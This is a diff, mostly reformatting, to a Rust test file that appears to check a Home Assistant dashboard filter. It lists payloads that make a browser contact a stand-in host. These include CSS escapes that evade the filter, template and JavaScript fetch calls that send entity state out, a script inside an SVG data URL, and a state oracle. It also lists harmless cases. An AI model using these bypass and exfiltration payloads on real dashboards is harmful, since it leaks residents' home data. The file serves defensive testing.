@@ -51,13 +51,18 @@ pub(super) fn channels(host: impl Fn(&str) -> String) -> Vec<Channel> {
         // The filter resolves the first reference, the browser the second.
         channel("md-twice", Host, &|h| markdown(&format!("<img src=\"/&#38;#47;{h}/x\">"))),
         channel("md-video", Host, &|h| markdown(&format!("<video src=\"//{h}/x\" autoplay></video>"))),
-        channel("md-code", Host, &|h| markdown(&format!("<ha-qr-code data=\"x\" center-image=\"//{h}/x\"></ha-qr-code>"))),
+        channel("md-code", Host, &|h| {
+            markdown(&format!("<ha-qr-code data=\"x\" center-image=\"//{h}/x\"></ha-qr-code>"))
+        }),
         channel("md-template", Code("template"), &|h| {
             markdown(&format!("![x]({{{{ 'ht' ~ 'tp:' ~ '/' ~ '/' ~ '{h}' ~ '/' ~ states('sun.sun') }}}})"))
         }),
         touched(LINK, channel("md-link", Host, &|h| markdown(&format!("[x](//{h}/x)")))),
         touched(LINK, channel("md-bare", Host, &|h| markdown(&format!("See www.{h}?x")))),
-        touched(LINK, channel("md-state", AnyHost, &|h| markdown(&format!("www.{{{{ states('sun.sun') }}}}.{h}")))),
+        touched(
+            LINK,
+            channel("md-state", AnyHost, &|h| markdown(&format!("www.{{{{ states('sun.sun') }}}}.{h}"))),
+        ),
         channel("picture", Host, &|h| card(json!({"type": "picture", "image": format!("http://{h}/x")}))),
         channel("entity", Host, &|h| {
             let image = format!("//{h}/x");
@@ -69,43 +74,75 @@ pub(super) fn channels(host: impl Fn(&str) -> String) -> Vec<Channel> {
         }),
         channel("element", Host, &|h| elements(json!({"type": "image", "image": format!("//{h}/x")}))),
         channel("style", Host, &|h| {
-            elements(json!({"type": "icon", "icon": "mdi:home", "style": {"background": format!("url(//{h}/x)")}}))
+            elements(
+                json!({"type": "icon", "icon": "mdi:home", "style": {"background": format!("url(//{h}/x)")}}),
+            )
         }),
         channel("style-escape", Host, &|h| {
             let style = format!("u\\72l(\\2f\\2f {h}/x)");
             elements(json!({"type": "icon", "icon": "mdi:home", "style": {"background": style}}))
         }),
         channel("background", Host, &|h| view(json!({"background": format!("center url(http://{h}/x)")}))),
-        channel("background-escape", Host, &|h| view(json!({"background": format!("center u\\72l(\\2f\\2f {h}/x)")}))),
-        only(NEW, channel("background-image", Host, &|h| view(json!({"background": {"image": format!("//{h}/x")}})))),
+        channel("background-escape", Host, &|h| {
+            view(json!({"background": format!("center u\\72l(\\2f\\2f {h}/x)")}))
+        }),
+        only(
+            NEW,
+            channel("background-image", Host, &|h| {
+                view(json!({"background": {"image": format!("//{h}/x")}}))
+            }),
+        ),
         // Out of the address that Home Assistant puts around it.
-        only(NEW, channel("background-end", Host, &|h| {
-            view(json!({"background": {"image": format!("/x#'),u\\72l('\\00002f\\00002f{h}/x")}}))
-        })),
-        only(NEW, channel("background-size", Host, &|h| {
-            let size = format!("cover u\\72l('\\2f\\2f {h}/x'),center");
-            view(json!({"background": {"image": ICON, "size": size}}))
-        })),
+        only(
+            NEW,
+            channel("background-end", Host, &|h| {
+                view(json!({"background": {"image": format!("/x#'),u\\72l('\\00002f\\00002f{h}/x")}}))
+            }),
+        ),
+        only(
+            NEW,
+            channel("background-size", Host, &|h| {
+                let size = format!("cover u\\72l('\\2f\\2f {h}/x'),center");
+                view(json!({"background": {"image": ICON, "size": size}}))
+            }),
+        ),
         channel("header", Host, &|h| {
             let header = json!({"type": "picture", "image": format!("//{h}/x")});
             card(json!({"type": "entities", "entities": ["sun.sun"], "header": header}))
         }),
         channel("row", Host, &|h| {
-            card(json!({"type": "entities", "entities": [{"entity": "sun.sun", "image": format!("//{h}/x")}]}))
+            card(
+                json!({"type": "entities", "entities": [{"entity": "sun.sun", "image": format!("//{h}/x")}]}),
+            )
         }),
         channel("iframe", Host, &|h| card(json!({"type": "iframe", "url": format!("http://{h}/x")}))),
-        only(OLD, channel("iframe-data", AnyHost, &|h| {
-            card(json!({"type": "iframe", "url": svg(&format!("<script>fetch('http://{h}/x')</script>"))}))
-        })),
-        only(NEW, channel("strategy", Host, &|h| {
-            json!({"strategy": {"type": "iframe", "url": format!("http://{h}/x")}})
-        })),
+        only(
+            OLD,
+            channel("iframe-data", AnyHost, &|h| {
+                card(
+                    json!({"type": "iframe", "url": svg(&format!("<script>fetch('http://{h}/x')</script>"))}),
+                )
+            }),
+        ),
+        only(
+            NEW,
+            channel(
+                "strategy",
+                Host,
+                &|h| json!({"strategy": {"type": "iframe", "url": format!("http://{h}/x")}}),
+            ),
+        ),
         touched(BUTTON, channel("tap", Host, &|h| button(&format!("http://{h}/x")))),
         // Everything before the sign is a name to log in with, and no host.
         touched(BUTTON, channel("tap-name", Host, &|h| button(&format!("http://harmless.example,@{h}/x")))),
-        touched("hui-weblink-row a", channel("weblink", Host, &|h| {
-            card(json!({"type": "entities", "entities": [{"type": "weblink", "url": format!("//{h}/x")}]}))
-        })),
+        touched(
+            "hui-weblink-row a",
+            channel("weblink", Host, &|h| {
+                card(
+                    json!({"type": "entities", "entities": [{"type": "weblink", "url": format!("//{h}/x")}]}),
+                )
+            }),
+        ),
         // Whether it is asked for says how the state is.
         channel("oracle", Host, &|h| {
             let conditions = json!([{"condition": "state", "entity": "sun.sun", "state_not": "elsewhere"}]);
@@ -125,7 +162,9 @@ pub(super) fn channels(host: impl Fn(&str) -> String) -> Vec<Channel> {
             card(picture)
         }),
         channel("button-code", Code("[[["), &|h| {
-            let name = format!("[[[ return fetch(['ht', 'tp:', '/', '/{h}/'].join('') + states['sun.sun'].state) ]]]");
+            let name = format!(
+                "[[[ return fetch(['ht', 'tp:', '/', '/{h}/'].join('') + states['sun.sun'].state) ]]]"
+            );
             card(json!({"type": "custom:button-card", "name": name}))
         }),
         channel("card-mod", Code("card_mod"), &|h| {
@@ -156,18 +195,28 @@ pub(super) fn harmless(host: impl Fn(&str) -> String) -> Vec<Harmless> {
         design("own-path", None, &|h| json!({"type": "picture", "image": format!("/local/{h}/x.png")})),
         // A picture may not load anything.
         design("drawing", None, &|h| {
-            let inside = format!("<image href='http://{h}/x' width='9' height='9'/><style>@import 'http://{h}/y'</style>");
+            let inside = format!(
+                "<image href='http://{h}/x' width='9' height='9'/><style>@import 'http://{h}/y'</style>"
+            );
             json!({"type": "picture", "image": svg(&inside)})
         }),
-        design("state", None, &|_| json!({"type": "markdown", "content": "The sun is {{ states('sun.sun') }}."})),
+        design(
+            "state",
+            None,
+            &|_| json!({"type": "markdown", "content": "The sun is {{ states('sun.sun') }}."}),
+        ),
         design("word", None, &|h| json!({"type": "markdown", "content": format!("`{h}` and **{h}**")})),
-        design("own-link", Some(LINK), &|h| {
-            json!({"type": "markdown", "content": format!("[a page](/{h}/x) ![a picture](/local/{h}.png)")})
-        }),
-        design("tags", None, &|h| {
-            json!({"type": "markdown", "content": format!("<b>{h}</b><br><ha-icon icon=\"mdi:home\"></ha-icon><img src=\"/{h}/x\">")})
-        }),
-        design("letter", None, &|_| json!({"type": "markdown", "content": "somebody@letter.localhost"})),
+        design(
+            "own-link",
+            Some(LINK),
+            &|h| json!({"type": "markdown", "content": format!("[a page](/{h}/x) ![a picture](/local/{h}.png)")}),
+        ),
+        design(
+            "tags",
+            None,
+            &|h| json!({"type": "markdown", "content": format!("<b>{h}</b><br><ha-icon icon=\"mdi:home\"></ha-icon><img src=\"/{h}/x\">")}),
+        ),
+        design("letter", None, &|_| json!({"type": "markdown", "content": "somebody@letter.example"})),
         design("own-element", None, &|_| {
             let style = json!({"left": "50%", "top": "50%", "background": format!("url('{ICON}')")});
             json!({"type": "picture-elements", "image": ICON, "elements": [{"type": "icon", "icon": "mdi:home", "style": style}]})
